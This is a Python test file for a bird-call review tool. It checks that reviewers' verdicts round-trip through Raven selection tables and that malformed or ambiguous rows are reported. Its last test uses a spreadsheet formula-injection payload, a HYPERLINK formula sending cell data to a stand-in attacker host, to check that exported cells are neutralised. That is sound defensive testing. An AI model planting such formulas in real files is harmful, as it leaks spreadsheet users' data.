"""Reviews round-trip through Raven selection tables: export -> import gives the same verdicts,
edits made in Raven come back as new verdicts, and rows the catalog cannot place are reported by
selection, never guessed."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pytest

from connectors.errors import InputError
from flows.cli.main import main
from flows.review.exchange import export_reviews, import_reviews
from flows.outputs.exports.raven import COLUMNS
from flows.review.service import ReviewService, ReviewSettings, WindowKey
from tests.support.review_catalog import build, reviews_rows

VERDICTS = [  # (key, label, verdict, corrected label, reviewer)
    ("rec-mono.fp1.0.0", "wren", "wrong", None, "ana"),
    ("rec-mono.fp1.0.4", "wren", "correct", None, "ana"),
    ("rec-mono.fp1.0.1", "robin", "other", "Dunnock", "bea"),
    ("rec-stereo.fp1.2.3", "wren", "unsure", None, "bea"),
    ("rec-stereo.fp1.2.5", "wren", "correct", None, "ana"),
]


def add(results: Path, verdicts=VERDICTS) -> None:
    service = ReviewService(ReviewSettings(results=str(results), reviewer="ana"))
    try:
        for key, label, verdict, corrected, reviewer in verdicts:
            service.add_verdict(WindowKey.parse(key), label, verdict, reviewer, corrected)
    finally:
        service.close()


def newest(results: Path) -> set[tuple]:
    """The verdict that counts per detection, with who gave it."""
    latest: dict[tuple, tuple] = {}
    for r in reviews_rows(results):
        k = (r["recording_id"], r["config_fingerprint"], r["channel"], r["window_index"], r["label"])
        latest[k] = (r["verdict"], r["corrected_label"], r["reviewer"])
    return {k + v for k, v in latest.items()}


@pytest.fixture
def reviewed(tmp_path):
    built = build(tmp_path / "a")
    # A copy of the catalog before anyone reviewed: the importing side of the round trip.
    shutil.copytree(built.results, tmp_path / "fresh")
    add(built.results)
    return built, tmp_path / "fresh"


def test_export_then_import_gives_the_same_verdicts(reviewed, tmp_path):
    built, fresh = reviewed
    table = tmp_path / "reviews.selections.txt"
    done = export_reviews(str(built.results), table)
    assert (done.rows, done.verdicts, done.pending, done.left_out) == (5, 5, 0, 0)
    header = table.read_text(encoding="utf-8").splitlines()[0].split("\t")
    assert header == [*COLUMNS, "Verdict", "Corrected Name", "Reviewer", "Fingerprint"]
    imported = import_reviews(str(fresh), table, reviewer="nobody")
    assert (imported.imported, imported.unchanged, imported.problems) == (5, 0, [])
    assert newest(fresh) == newest(built.results)
    assert {r["via"] for r in reviews_rows(fresh)} == {"raven"}
    # Importing the same table again changes nothing and adds no rows.
    again = import_reviews(str(fresh), table, reviewer="nobody")
    assert (again.imported, again.unchanged) == (0, 5)
    assert len(reviews_rows(fresh)) == 5


def table_rows(table: Path) -> list[dict[str, str]]:
    """The table as plain tab-separated text: a dict of cells per row, by header."""
    lines = table.read_text(encoding="utf-8").splitlines()
    header = lines[0].split("\t")
    return [dict(zip(header, line.split("\t"))) for line in lines[1:] if line.strip()]


def test_the_table_places_each_selection_in_its_file(reviewed, tmp_path):
    built, _ = reviewed
    table = tmp_path / "t.txt"
    export_reviews(str(built.results), table)
    rows = table_rows(table)
    mono = str((built.source / "dep-a" / "20240601_030000.WAV").resolve())
    stereo = str((built.source / "dep-a" / "20240601_040000.WAV").resolve())
    by_place = {(r["Begin Path"], float(r["File Offset (s)"]), r["Common Name"]): r for r in rows}
    first = by_place[(mono, 0.0, "wren")]
    assert (int(first["Channel"]), float(first["Begin Time (s)"]), float(first["End Time (s)"])) == (1, 0, 10)
    assert float(first["High Freq (Hz)"]) == 8000 and first["Verdict"] == "wrong"
    assert float(first["Confidence"]) == pytest.approx(0.5 / 6)
    robin = by_place[(mono, 10.0, "robin")]
    assert (robin["Verdict"], robin["Corrected Name"], robin["Reviewer"]) == ("other", "Dunnock", "bea")
    # The stereo file follows the 60-s mono file on the table's timeline; channel 2 stays 2.
    late = by_place[(stereo, 50.0, "wren")]
    assert (int(late["Channel"]), float(late["Begin Time (s)"]), float(late["End Time (s)"])) == (2, 110, 120)
    assert [r["Selection"] for r in rows] == [str(i) for i in range(1, 6)]


def edit(table: Path, changes: dict[str, dict[str, str]]) -> None:
    """Change cells as a reviewer would in Raven: rows picked by their Selection number."""
    lines = table.read_text(encoding="utf-8").splitlines()
    header = lines[0].split("\t")
    out = [lines[0]]
    for line in lines[1:]:
        cells = dict(zip(header, line.split("\t")))
        cells.update(changes.get(cells["Selection"], {}))
        out.append("\t".join(cells[h] for h in header))
    table.write_text("\n".join(out) + "\n", encoding="utf-8")


def selection(table: Path, path_end: str, offset: str, label: str) -> str:
    """The Selection number of the row at `offset` s of the file ending `path_end`."""
    (row,) = [r for r in table_rows(table)
              if r["Begin Path"].endswith(path_end) and float(r["File Offset (s)"]) == float(offset)
              and r["Common Name"] == label]
    return row["Selection"]


def test_verdicts_given_in_raven_come_back(reviewed, tmp_path):
    built, _ = reviewed
    table = tmp_path / "t.txt"
    done = export_reviews(str(built.results), table, pending_per_species=2)
    assert done.pending == 4  # two wren and two robin detections nobody reviewed yet
    pending = [r for r in table_rows(table) if not r["Verdict"]]
    assert len(pending) == 4
    edit(table, {
        selection(table, "030000.WAV", "0", "wren"): {"Verdict": "correct", "Reviewer": "cat"},
        pending[0]["Selection"]: {"Verdict": "n"},
        pending[1]["Selection"]: {"Verdict": "Other", "Corrected Name": "Dunnock"},
    })
    result = import_reviews(str(built.results), table, reviewer="dan")
    assert result.problems == [] and (result.imported, result.unchanged, result.blank) == (3, 4, 2)
    by_place = {}
    for r in reviews_rows(built.results):  # oldest first: the last one per detection counts
        by_place[(r["recording_id"], r["window_index"], r["label"])] = (
            r["verdict"], r["corrected_label"], r["reviewer"], r["via"])
    assert by_place[("rec-mono", 0, "wren")] == ("correct", None, "cat", "raven")
    recording = {"030000.WAV": "rec-mono", "040000.WAV": "rec-stereo"}
    got = [by_place[(recording[p["Begin Path"][-10:]], int(float(p["File Offset (s)"]) // 10),
                     p["Common Name"])] for p in pending[:2]]
    assert got == [("wrong", None, "dan", "raven"), ("other", "Dunnock", "dan", "raven")]


def test_rows_the_catalog_cannot_place_are_reported_by_selection(reviewed, tmp_path):
    built, fresh = reviewed
    table = tmp_path / "t.txt"
    export_reviews(str(built.results), table)
    edit(table, {
        selection(table, "030000.WAV", "0", "wren"): {"File Offset (s)": "5"},  # no window there
        selection(table, "030000.WAV", "40", "wren"): {"Verdict": "maybe"},    # not a verdict
        selection(table, "030000.WAV", "10", "robin"): {"Corrected Name": ""},  # which species?
    })
    result = import_reviews(str(fresh), table, reviewer="x")
    assert result.imported == 2
    assert len(result.problems) == 3
    assert all(p.startswith(f"{table}: selection ") for p in result.problems)
    reasons = " | ".join(result.problems)
    assert "no detection of 'wren' at 5 s" in reasons
    assert "verdict 'maybe': expected correct, wrong, unsure or other" in reasons
    assert "verdict other needs the species heard in Corrected Name" in reasons


def test_a_window_two_fingerprints_analysed_needs_the_fingerprint(tmp_path):
    built = build(tmp_path / "a", fingerprints=("fp1", "fp2"))
    table = tmp_path / "t.txt"
    table.write_text("\t".join(COLUMNS + ("Verdict",)) + "\n" + "\t".join([
        "1", "Spectrogram 1", "1", "20", "30", "0", "8000", "wren", "", "0.4",
        str((built.source / "dep-a" / "20240601_030000.WAV").resolve()), "20", "correct"]) + "\n",
        encoding="utf-8")
    ambiguous = import_reviews(str(built.results), table, reviewer="x")
    assert ambiguous.imported == 0 and "several fingerprints analysed this window (fp1, fp2)" in ambiguous.problems[0]
    chosen = import_reviews(str(built.results), table, reviewer="x", fingerprint="fp2")
    assert chosen.imported == 1
    assert [(r["config_fingerprint"], r["window_index"]) for r in reviews_rows(built.results)] == [("fp2", 2)]


def test_a_file_that_is_not_a_selection_table_is_refused(tmp_path):
    bad = tmp_path / "notes.txt"
    bad.write_text("just some notes\n", encoding="utf-8")
    with pytest.raises(InputError, match="not a selection table"):
        import_reviews(str(tmp_path), bad, reviewer="x")
    with pytest.raises(InputError, match="file not found"):
        import_reviews(str(tmp_path), tmp_path / "missing.txt", reviewer="x")


def test_the_cli_round_trip(reviewed, tmp_path, capsys):
    built, fresh = reviewed
    table = tmp_path / "cli.txt"
    assert main(["review", "--results", str(built.results), "--export-raven", str(table)]) == 0
    assert main(["review", "--results", str(fresh), "--import-raven", str(table)]) == 0
    out = capsys.readouterr().out
    assert "5 selections (5 with verdicts, 0 to review)" in out
    assert "5 verdicts imported, 0 unchanged" in out
    assert newest(fresh) == newest(built.results)
    assert main(["review", "--results", str(fresh), "--import-raven", str(tmp_path / "nope.txt")]) == 2
    assert "file not found" in capsys.readouterr().err


def test_reviewers_words_are_neutralised_in_the_table_and_come_back_as_given(reviewed, tmp_path):
    """A reviewer named `@ana` and a correction `=HYPERLINK(...)`: the exported table has no cell
    a spreadsheet would run, and importing it records the words as they were given."""
    built, fresh = reviewed
    hostile = [("rec-mono.fp1.0.2", "wren", "other", '=HYPERLINK("http://evil.example/?x="&A1)', "@ana"),
               ("rec-stereo.fp1.2.4", "wren", "wrong", None, "-bea")]
    add(built.results, hostile)
    table = tmp_path / "reviews.selections.txt"
    export_reviews(str(built.results), table)
    with open(table, newline="", encoding="utf-8") as fh:  # as a spreadsheet parses it
        cells = [cell for row in csv.reader(fh, delimiter="\t") for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1)" in cells and "'@ana" in cells
    imported = import_reviews(str(fresh), table, reviewer="nobody")
    assert imported.problems == []
    assert newest(fresh) == newest(built.results)
    assert ('=HYPERLINK("http://evil.example/?x="&A1)', "@ana") in {
        (r["corrected_label"], r["reviewer"]) for r in reviews_rows(fresh)}
